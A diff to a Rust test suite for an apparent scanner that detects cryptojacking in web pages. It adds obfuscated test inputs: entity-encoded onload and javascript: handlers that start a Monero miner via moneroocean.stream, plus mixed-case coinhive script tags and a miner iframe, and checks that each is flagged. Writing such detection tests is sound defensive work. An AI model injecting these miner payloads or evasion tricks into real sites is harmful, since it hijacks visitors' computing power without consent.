@@ -303,15 +303,17 @@ fn scripts_of_pages_are_judged() {
     assert!(said("RUN true", &[("index.html", loaded)]).contains("STOP[miner-source]"));
     let inline = format!("<script>start(\"moneroocean.stream\", \"{WALLET}\")</script>");
     assert!(said("RUN true", &[("index.html", &inline)]).contains("STOP[miner-file-content]"));
+    let run = format!("start(\"&#109;oneroocean.stream\", \"{WALLET}\")");
     for page in [
-        "<IFRAME SRC=https://www.hostingcloud.racing/x.html>",
-        "<body ONLOAD='lo&#97;d(\"https://&#99;oinhive.com/lib/coinhive.min.js\")'>",
-        "<a href=\"javascript:load('https://coinhive.com/lib/coinhive.min.js')\">x</a>",
-        "<ScRiPt src=//coinhive.com/lib/coinhive.min.js></sCrIpT>",
+        "<IFRAME SRC=https://www.hostingcloud.racing/x.html>".to_owned(),
+        format!("<body ONLOAD='{run}'>"),
+        format!("<a href='javascript:{run}'>x</a>"),
+        "<ScRiPt src=//coinhive.com/lib/coinhive.min.js></sCrIpT>".to_owned(),
     ] {
         // of any length: a page has no line where its text ends
         let page = format!("<p>{}</p>{page}", "text ".repeat(20_000));
-        assert!(said("RUN true", &[("index.html", &page)]).contains("STOP"), "{page}");
+        let out = said("RUN true", &[("index.html", &page)]);
+        assert!(out.contains("STOP"), "{out}");
     }
     let link = "<p onclick='open()'>x</p><a href=https://coinhive.com/lib/coinhive.min.js>x</a>";
     assert!(!said("RUN true", &[("index.html", link)]).contains("STOP"));
